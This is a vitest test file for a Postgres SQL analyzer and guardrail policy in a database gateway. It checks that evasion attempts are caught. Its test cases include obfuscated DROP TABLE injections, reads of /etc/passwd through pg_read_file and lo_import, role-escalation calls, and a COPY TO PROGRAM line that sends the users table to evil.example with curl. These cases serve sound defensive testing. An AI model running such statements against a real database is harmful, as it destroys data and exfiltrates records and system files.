import { beforeAll, describe, expect, it } from "vitest";
import type { Identity } from "../../identity/identity.js";
import { CompiledPolicy, parseConfig, type StatementFact } from "../../policy/index.js";
import { PostgresSqlAnalyzer } from "./analyzer.js";
import { varyLiterals, visible } from "./test-helpers.js";

/**
 * The evasion list of issue 3: each text must be seen for what it is. Every case names the one guardrail that must
 * block it; the same text must be allowed once that guardrail is removed, so a case can neither pass because some
 * other rule happened to fire nor because everything is denied.
 */

const RULES = {
  drop: "{ statements: [drop, truncate] }",
  noWhere: "{ statements: [delete, update], without_where: true }",
  do: "{ statements: [do] }",
  program: "{ statements: [copy_program] }",
  privileges: "{ statements: [alter_role, grant, revoke] }",
  set: "{ statements: [set] }",
  readUsers: "{ statements: [select], tables: [users] }",
  admin: "{ functions: [pg_terminate_backend, pg_read_file, lo_import, dblink_exec, set_config] }",
  proc: "{ functions: [app.my_proc] }",
} as const;
type RuleName = keyof typeof RULES | "unparseable";

function policyWithout(...removed: RuleName[]): CompiledPolicy {
  const guardrails = Object.entries(RULES)
    .filter(([name]) => !removed.includes(name as RuleName))
    .map(([, deny]) => `      - deny: ${deny}`);
  const yaml = `
connections:
  - name: db
    type: postgres
    target: { host: h, user: u }
    access: [group:ci]
    on_unparseable: ${removed.includes("unparseable") ? "allow" : "deny"}
    guardrails:
${guardrails.join("\n")}
`;
  return CompiledPolicy.for(parseConfig(yaml, { env: {} }));
}

const ci: Identity = { subject: "ci-bot", kind: "bot", groups: ["ci"], issuer: "gatehouse", tokenId: "ci-bot" };
const full = policyWithout();

function expectedRulePath(rule: RuleName): string {
  if (rule === "unparseable") return "connections[0].on_unparseable";
  return `connections[0].guardrails[${Object.keys(RULES).indexOf(rule)}]`;
}

interface Case {
  sql: string;
  /** Exactly the statement facts the analyzer must produce (undefined: unparseable). */
  facts: StatementFact[] | undefined;
  /** The guardrail that must deny it; null: it must be allowed (it is not what it looks like). */
  blockedBy: RuleName | null;
  /** Later rules that would deny it too, removed with `blockedBy` for the "allowed without" half. */
  alsoBy?: RuleName[];
}

const dropUsers: StatementFact = { kind: "drop", tables: ["users"] };
const deleteAll: StatementFact = { kind: "delete", tables: ["users"], hasWhere: false };
const calling = (...functions: string[]): StatementFact => ({ kind: "select", tables: [], functions });

const CASES: Case[] = [
  { sql: "dRoP/**/TABLE users", facts: [dropUsers], blockedBy: "drop" },
  { sql: "DROP TABLE users; SELECT 1", facts: [dropUsers, { kind: "select", tables: [] }], blockedBy: "drop" },
  { sql: "SELECT 1; DROP TABLE users", facts: [{ kind: "select", tables: [] }, dropUsers], blockedBy: "drop" },
  { sql: "-- comment\nDROP TABLE users", facts: [dropUsers], blockedBy: "drop" },
  { sql: "/* a */ DROP /* b */ TABLE users", facts: [dropUsers], blockedBy: "drop" },
  { sql: "/* nested /* comment */ still */ DROP TABLE users", facts: [dropUsers], blockedBy: "drop" },
  {
    sql: "PREPARE p AS DELETE FROM users; EXECUTE p",
    facts: [{ kind: "prepare", tables: [] }, deleteAll, { kind: "execute", tables: [] }],
    blockedBy: "noWhere",
  },
  {
    sql: "WITH x AS (DELETE FROM users RETURNING *) SELECT * FROM x",
    facts: [{ kind: "select", tables: [] }, deleteAll],
    blockedBy: "noWhere",
  },
  {
    sql: "EXPLAIN ANALYZE DELETE FROM users",
    facts: [{ kind: "explain", tables: [] }, deleteAll],
    blockedBy: "noWhere",
  },
  {
    sql: "CREATE RULE r AS ON SELECT TO t DO INSTEAD DELETE FROM users",
    facts: [{ kind: "create", tables: ["t"] }, deleteAll],
    blockedBy: "noWhere",
  },
  // a string is a string, however much it looks like SQL
  { sql: "SELECT $$DROP TABLE users$$", facts: [{ kind: "select", tables: [] }], blockedBy: null },
  { sql: "SELECT $tag$ '; DROP TABLE users; -- $tag$", facts: [{ kind: "select", tables: [] }], blockedBy: null },
  // E'\\' is one backslash, so the DROP after it is real
  {
    sql: "SELECT E'\\\\'; DROP TABLE x; --'",
    facts: [
      { kind: "select", tables: [] },
      { kind: "drop", tables: ["x"] },
    ],
    blockedBy: "drop",
  },
  // E'\'' escapes the quote: all of it is one string
  { sql: "SELECT E'\\'; DROP TABLE x; --'", facts: [{ kind: "select", tables: [] }], blockedBy: null },
  // standard strings do not escape with a backslash: '\' ends there and the DROP is real
  {
    sql: "SELECT '\\'; DROP TABLE x; --'",
    facts: [
      { kind: "select", tables: [] },
      { kind: "drop", tables: ["x"] },
    ],
    blockedBy: "drop",
  },
  // ...unless the session switches that off, after which the server and the gateway would read text differently
  {
    sql: "SET standard_conforming_strings = off",
    facts: [{ kind: "set", tables: [] }],
    blockedBy: "unparseable",
    alsoBy: ["set"],
  },
  { sql: 'DROP TABLE U&"\\0075sers"', facts: [dropUsers], blockedBy: "drop" },
  { sql: 'U&"d\\0072op" TABLE users', facts: undefined, blockedBy: "unparseable" },
  { sql: "DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$", facts: [{ kind: "do", tables: [] }], blockedBy: "do" },
  {
    sql: "COPY users TO PROGRAM 'curl -d @- https://evil.example'",
    facts: [
      { kind: "copy", tables: ["users"] },
      { kind: "select", tables: ["users"] },
      { kind: "copy_program", tables: ["users"] },
    ],
    blockedBy: "program",
    alsoBy: ["readUsers"],
  },
  { sql: "SELECT * FROM users FOR UPDATE", facts: [{ kind: "select", tables: ["users"] }], blockedBy: "readUsers" },
  { sql: "TRUNCATE ONLY users", facts: [{ kind: "truncate", tables: ["users"] }], blockedBy: "drop" },
  { sql: "ALTER ROLE x SUPERUSER", facts: [{ kind: "alter_role", tables: [] }], blockedBy: "privileges" },
  { sql: "GRANT ALL ON users TO public", facts: [{ kind: "grant", tables: ["users"] }], blockedBy: "privileges" },
  { sql: "SET ROLE postgres", facts: [{ kind: "set", tables: [] }], blockedBy: "set" },
  {
    sql: "MERGE INTO users u USING staging s ON u.id = s.id WHEN MATCHED THEN DELETE",
    facts: [{ kind: "merge", tables: ["users"] }, deleteAll, { kind: "select", tables: ["staging"] }],
    blockedBy: "noWhere",
  },
  { sql: "select 1\0; DROP TABLE users", facts: undefined, blockedBy: "unparseable" },
  // function calls, however they are spelt and wherever they sit
  { sql: "SELECT pg_terminate_backend(123)", facts: [calling("pg_terminate_backend")], blockedBy: "admin" },
  {
    sql: "SELECT pg_catalog.PG_TERMINATE_BACKEND(1)",
    facts: [calling("pg_catalog.pg_terminate_backend")],
    blockedBy: "admin",
  },
  { sql: "select * from pg_read_file('/etc/passwd')", facts: [calling("pg_read_file")], blockedBy: "admin" },
  { sql: "SELECT \"pg_read_file\"('/etc/passwd')", facts: [calling("pg_read_file")], blockedBy: "admin" },
  { sql: "SELECT U&\"pg_\\0072ead_file\"('/etc/passwd')", facts: [calling("pg_read_file")], blockedBy: "admin" },
  { sql: "SELECT (SELECT pg_terminate_backend(1))", facts: [calling("pg_terminate_backend")], blockedBy: "admin" },
  {
    sql: "WITH x AS (SELECT set_config('role','postgres',false)) SELECT * FROM x",
    facts: [calling("set_config")],
    blockedBy: "admin",
  },
  {
    sql: "SELECT pg_catalog.set_config('role', 'postgres', false)",
    facts: [calling("pg_catalog.set_config")],
    blockedBy: "admin",
  },
  {
    sql: "INSERT INTO t VALUES (lo_import('/etc/passwd'))",
    facts: [{ kind: "insert", tables: ["t"], functions: ["lo_import"] }],
    blockedBy: "admin",
  },
  {
    sql: "SELECT dblink_exec('dbname=app', 'DROP TABLE users')",
    facts: [calling("dblink_exec")],
    blockedBy: "admin",
  },
  {
    sql: "EXPLAIN ANALYZE SELECT pg_terminate_backend(1)",
    facts: [{ kind: "explain", tables: [] }, calling("pg_terminate_backend")],
    blockedBy: "admin",
  },
  {
    sql: "PREPARE p AS SELECT pg_read_file('/etc/passwd'); EXECUTE p",
    facts: [{ kind: "prepare", tables: [] }, calling("pg_read_file"), { kind: "execute", tables: [] }],
    blockedBy: "admin",
  },
  // a bare name is whatever search_path finds: app.my_proc too
  { sql: "CALL My_Proc()", facts: [{ kind: "call", tables: [], functions: ["my_proc"] }], blockedBy: "proc" },
  // a string is not a call, and a function of another schema is another function
  { sql: "SELECT 'pg_terminate_backend(1)'", facts: [{ kind: "select", tables: [] }], blockedBy: null },
  { sql: "SELECT other.my_proc()", facts: [calling("other.my_proc")], blockedBy: null },
];

let analyzer: PostgresSqlAnalyzer;
beforeAll(async () => {
  analyzer = await PostgresSqlAnalyzer.load();
});

describe("evasion list", () => {
  it.each(CASES)("$sql yields the right facts", ({ sql, facts }) => {
    const a = analyzer.analyze(sql);
    if (facts === undefined) {
      expect(a.facts.unparseable).toBeDefined();
      expect(a.statements).toEqual([]);
    } else {
      expect(a.facts.statements).toEqual(facts);
    }
  });

  it.each(CASES)("$sql: blocked by its rule, allowed without it", ({ sql, blockedBy, alsoBy = [] }) => {
    const facts = analyzer.analyze(sql).facts;
    const decision = full.decide(ci, "db", facts);
    if (blockedBy === null) {
      expect(decision.outcome).toBe("allow");
      return;
    }
    expect(decision.outcome).toBe("deny");
    expect(decision.rule?.path).toBe(expectedRulePath(blockedBy));
    expect(policyWithout(blockedBy, ...alsoBy).decide(ci, "db", facts).outcome).toBe("allow");
    if (alsoBy.length > 0) expect(policyWithout(...alsoBy).decide(ci, "db", facts).outcome).toBe("deny");
  });
});

describe("evasion list through literal templates", () => {
  it.each(CASES)("$sql: the same with other literals, after a template was made", async ({ sql }) => {
    const templated = await PostgresSqlAnalyzer.load();
    const reference = await PostgresSqlAnalyzer.load({ cacheSize: 0, templateCacheSize: 0 });
    const texts = [sql, varyLiterals(sql, () => 1), varyLiterals(sql, (n) => n - 1)];
    for (const text of texts) {
      if (text === undefined) continue;
      const a = templated.analyze(text);
      expect(visible(a)).toEqual(visible(reference.analyze(text)));
      expect(full.decide(ci, "db", a.facts)).toEqual(full.decide(ci, "db", reference.analyze(text).facts));
    }
  });
});
